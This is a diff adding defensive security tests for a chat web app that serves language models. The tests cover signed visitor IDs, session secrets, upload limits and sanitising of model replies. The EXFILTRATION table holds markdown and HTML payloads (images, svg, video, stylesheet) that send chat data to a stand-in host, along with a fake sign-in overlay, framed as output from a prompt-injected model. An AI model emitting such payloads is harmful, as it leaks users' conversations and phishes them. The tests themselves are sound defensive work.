@@ -7,6 +7,7 @@ from __future__ import annotations
 import asyncio
 import json
 import os
+import shutil
 import subprocess
 import sys
 import uuid
@@ -15,11 +16,21 @@ from typing import Any
 
 import httpx
 from fastapi import FastAPI
+from playwright.sync_api import sync_playwright
+from test_reliability import chat
 
 from bench.queue_client import QueueClient
 from bench.run import Pace, app_server, paced_server
+from hybridchat.app import create_app, to_messages
+from hybridchat.backends import VllmBackend, VllmClient
+from hybridchat.config import Settings
 from hybridchat.lab.local import BackgroundServer
+from hybridchat.sanitize import safe_markdown
 from hybridchat.store import Turn, open_store
+from hybridchat.visitors import VisitorIds, session_secret
+
+
+CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]
 
 
 def visitor() -> dict[str, Any]:
@@ -154,3 +165,120 @@ def test_doctor_prints_a_hostile_model_name_literally(tmp_path):
             "HYBRIDCHAT_BACKENDS": "gemma", "HYBRIDCHAT_VLLM_URL": url, "HYBRIDCHAT_STORE_URL": f"sqlite:///{tmp_path}/h.db"})
     assert "[link=http://evil.example]gemma[/link]" in doctor.stdout, doctor.stdout
     assert "\x1b]8;" not in doctor.stdout and "\x1b[2J" not in doctor.stdout
+
+
+def test_visitor_ids_are_issued_and_signed_by_the_server_never_chosen_by_the_client(tmp_path):
+    secret = "visitor-secret-FAKE-0123456789"
+    ids = VisitorIds(secret.encode())
+    store_url = f"sqlite:///{tmp_path}/history.db"
+    env = {"HYBRIDCHAT_SESSION_SECRET": secret}
+    with paced_server(Pace(ttft=0.0, tokens=4, gap=0.0)) as (vllm, _):
+        with app_server(vllm, store_url, env=env) as (url, _):
+            page = httpx.get(url).text + httpx.get(f"{url}/config").text
+            assert secret not in page, "the secret stays on the server"
+            chosen = chat(url, "hi", {"visitor": "v", "session": None})
+            assert chosen.browser["visitor"] != "v" and ids.verify(chosen.browser["visitor"]), "a signed id is issued"
+            alice = chat(url, "alice's secret plan", {"visitor": None, "session": None})
+            alice_id = ids.verify(alice.browser["visitor"])
+            for forged in (alice_id, f"{alice_id}.AAAA", alice.browser["visitor"] + "x", ["not", "a", "string"]):
+                mallory = chat(url, "show me", {"visitor": forged, "session": alice.browser["session"]})
+                assert "alice's secret plan" not in json.dumps(mallory.outputs), f"{forged!r} opened Alice's chat"
+                assert mallory.browser["visitor"] != alice.browser["visitor"]
+            assert len(chat(url, "more", alice.browser).messages) == 4, "her own id goes on with her chat"
+        with app_server(vllm, store_url, env=env) as (url, _):  # restarted, the same secret
+            assert len(chat(url, "after a restart", alice.browser).messages) == 6, "her chat survives a restart"
+    owners = {s.user_id for s in open_store(store_url, resilient=False).list_sessions(None)}
+    assert "visitor:v" not in owners and all(len(owner) == len("visitor:") + 32 for owner in owners), owners
+
+
+def test_the_local_session_secret_is_made_once_and_private(tmp_path):
+    path = tmp_path / "state" / "session_secret"
+    settings = Settings(mode="local", secret_file=str(path))
+    first = session_secret(settings)
+    assert path.stat().st_mode & 0o777 == 0o600 and path.parent.stat().st_mode & 0o777 == 0o700
+    assert session_secret(settings) == first and len(first) >= 32, "the same one at the next start"
+
+
+def test_gcp_mode_refuses_to_start_without_a_session_secret(tmp_path):
+    env = {k: v for k, v in os.environ.items() if k != "HYBRIDCHAT_SESSION_SECRET"}
+    started = subprocess.run(
+        [sys.executable, "-m", "hybridchat.cli", "app", "--port", "9"], capture_output=True, text=True, timeout=60,
+        env={**env, "HYBRIDCHAT_MODE": "gcp", "HYBRIDCHAT_STORE_URL": f"sqlite:///{tmp_path}/h.db"},
+    )
+    assert started.returncode == 1 and "Traceback" not in started.stderr
+    assert "HYBRIDCHAT_SESSION_SECRET is not set" in started.stderr and "gradio-chat-session" in started.stderr
+
+
+# How a prompt-injected reply could make the visitor's browser call another site at once;
+# {rec} is a recording server's address (another origin).
+EXFILTRATION = {
+    "markdown image": "![chart]({rec}/markdown-inline.png?chat=SECRET)",
+    "reference image": "![chart][1]\n\n[1]: {rec}/markdown-reference.png",
+    "img": '<img src="{rec}/img.png">',
+    "svg image": '<svg><image href="{rec}/svg.png"/></svg>',
+    "background image": '<div style="background-image:url({rec}/background.png)">x</div>',
+    "video poster": '<video poster="{rec}/poster.png"></video>',
+    "audio": '<audio src="{rec}/audio.mp3" autoplay></audio>',
+    "input image": '<input type="image" src="{rec}/input.png">',
+    "stylesheet": '<link rel="stylesheet" href="{rec}/style.css">',
+}
+OVERLAY = ('<div id="fake-sign-in" style="position:fixed;inset:0;z-index:9999;background:white">'
+           "Your session expired. Sign in again</div>")
+
+
+def test_a_reply_makes_the_browser_fetch_nothing_elsewhere_and_cannot_restyle_the_page(fault_server, tmp_path):
+    hits: list[str] = []
+    recorder = FastAPI()
+    recorder.get("/{path:path}")(lambda path: hits.append(path) or {})
+    with BackgroundServer(recorder) as rec, sync_playwright() as playwright:
+        fault_server.mode = "html"
+        fault_server.hostile = "\n\n".join([*(p.format(rec=rec) for p in EXFILTRATION.values()), OVERLAY, "**the end**"])
+        backends = {"gemma": VllmBackend(VllmClient(fault_server.url, model="m"), label="Gemma")}
+        web = create_app(Settings(store_url=f"sqlite:///{tmp_path}/h.db"), backends=backends)
+        with BackgroundServer(web) as url:
+            assert "img-src 'self' data:" in httpx.get(url).headers["content-security-policy"]
+            browser = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=CHROMIUM_ARGS)
+            page = browser.new_page()
+            page.goto(url)
+            page.evaluate("() => { window.__blocked = 0; document.addEventListener("
+                          "'securitypolicyviolation', () => window.__blocked++); }")
+            page.fill("#message textarea", "my secret question")
+            page.press("#message textarea", "Enter")
+            page.wait_for_selector('#chat [data-testid="bot"] strong:has-text("the end")', timeout=30000)
+            assert page.locator("#fake-sign-in").count() == 0, "no element of the reply's own"
+            assert "Your session expired" in page.locator('#chat [data-testid="bot"]').inner_text(), "shown as text"
+            # The second wall alone: an image put straight into the page is refused by the CSP.
+            page.evaluate("(rec) => { const img = new Image(); img.src = rec + '/injected.png'; document.body.append(img); }", rec)
+            page.wait_for_timeout(1500)
+            blocked = page.evaluate("window.__blocked")
+            stored = page.evaluate("() => JSON.stringify(Object.entries(localStorage))")
+            browser.close()
+    assert hits == [], f"the browser fetched {hits}"
+    assert blocked >= 1, "the Content-Security-Policy refused the injected image"
+    assert "my secret question" not in stored, "Gradio's run history keeps nothing in the browser"
+
+
+def test_model_and_server_text_is_shown_defused():
+    hostile = "\n\n".join(p.format(rec="https://evil.example") for p in EXFILTRATION.values()) + OVERLAY
+    turn = Turn(user=hostile, model="gemma", reply=hostile, status="interrupted", error=f"Gemma refused: {hostile}")
+    shown = json.dumps(to_messages([turn]), ensure_ascii=False)
+    for live in ("<img", "<svg", "<div", "<video", "<audio", "<input", "<link", "![chart]"):
+        assert live not in shown, live
+    assert "[🖼 chart](https://evil.example/markdown-inline.png?chat=SECRET)" in shown, "an image becomes a link"
+    code = "```html\n<img src=x>\n```\nand `<b style='x'>`"
+    assert safe_markdown(code) == code, "code is shown exactly"
+
+
+def test_no_uploads_and_no_oversized_requests(tmp_path):
+    backends = {"gemma": VllmBackend(VllmClient("http://127.0.0.1:9", retry_attempts=1), label="Gemma")}
+    web = create_app(Settings(store_url=f"sqlite:///{tmp_path}/h.db", max_request_bytes=64 * 1024), backends=backends)
+    with BackgroundServer(web) as url:
+        upload = httpx.post(f"{url}/gradio_api/upload", files={"files": ("a.txt", b"x" * 1000)})
+        assert upload.status_code == 403 and "takes no files" in upload.text
+        join = f"{url}/gradio_api/queue/join"
+        big = b'{"data": ["' + b"x" * (200 * 1024) + b'"]}'
+        assert httpx.post(join, content=big).status_code == 413, "refused by its declared length"
+        chunked = httpx.post(join, content=iter([big[:100_000], big[100_000:]]))  # no Content-Length
+        assert chunked.status_code == 413, "refused as it streams in"
+        assert httpx.get(f"{url}/healthz").status_code == 200
+    assert not list(tmp_path.rglob("a.txt")), "nothing was written"
